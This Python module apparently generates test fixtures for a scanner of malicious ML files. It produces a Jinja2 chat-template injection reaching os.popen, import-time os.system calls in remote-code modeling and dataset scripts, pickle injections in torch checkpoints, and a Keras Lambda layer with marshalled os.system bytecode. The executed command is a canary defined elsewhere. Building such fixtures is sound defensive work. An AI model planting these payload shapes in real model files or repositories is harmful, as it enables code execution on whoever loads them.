"""Hostile variants of clean files: payloads added to bytes that the format's writer produced."""

from __future__ import annotations

import base64
import marshal
import types
import zipfile
from pathlib import Path
from typing import Any

from attestgate.evaluation.corpus import models, pickles
from attestgate.evaluation.corpus.archives import write_zip

# Template text that walks from a Jinja2 global to os.popen, the shape of the
# llama-cpp-python chat-template injection (CVE-2024-34359).
HOSTILE_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('"
    + pickles.CANARY_COMMAND.replace("'", "")
    + "').read() }}"
)

PAYLOAD_MODULE = f'''"""Custom modeling code, as a hub repository ships it for trust_remote_code."""

import os

# Runs when transformers imports this module for auto_map.
os.system({pickles.CANARY_COMMAND!r})


class TinyConfig:
    model_type = "tiny"


class TinyModel:
    config_class = TinyConfig
'''

LOADING_SCRIPT = f'''"""Loading script for the tiny-corpus dataset, run by datasets.load_dataset."""

import os

import datasets

# Runs when the datasets library imports the script.
os.system({pickles.CANARY_COMMAND!r})


class TinyCorpus(datasets.GeneratorBasedBuilder):
    def _info(self):
        features = datasets.Features({{"text": datasets.Value("string")}})
        return datasets.DatasetInfo(features=features)

    def _split_generators(self, dl_manager):
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN)]

    def _generate_examples(self):
        yield 0, {{"text": "sample"}}
'''


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _data_pkl(members: dict[str, bytes]) -> str:
    return next(name for name in members if name.endswith("/data.pkl"))


def write_torch_reduce(path: Path, role: str, size: int) -> Path:
    """Write a ``torch.save`` checkpoint whose data.pkl calls os.system before its content."""
    models.write_torch(path, role, size)
    members = _members(path)
    name = _data_pkl(members)
    members[name] = pickles.inject(members[name])
    return write_zip(path, members, compression=zipfile.ZIP_STORED)


def write_torch_second_pickle(path: Path, role: str, size: int) -> Path:
    """Write a clean ``torch.save`` checkpoint plus a second pickle member holding the payload."""
    models.write_torch(path, role, size)
    members = _members(path)
    root = _data_pkl(members).rsplit("/", 1)[0]
    members[f"{root}/extra_state.pkl"] = pickles.system_payload()
    return write_zip(path, members, compression=zipfile.ZIP_STORED)


def lambda_layer(name: str) -> dict[str, Any]:
    """Return a Keras 3 Lambda layer whose function is marshalled bytecode calling os.system.

    The expression is only compiled, to get the bytes Keras would store;
    nothing runs it.
    """
    source = f"lambda x: __import__('os').system({pickles.CANARY_COMMAND!r}) or x"
    module = compile(source, "<lambda>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    encoded = base64.b64encode(marshal.dumps(code)).decode()
    function = {
        "class_name": "__lambda__",
        "config": {"code": encoded, "defaults": None, "closure": None},
    }
    return models.keras_layer(
        "Lambda", {"name": name, "function": function, "arguments": {}, "output_shape": None}
    )
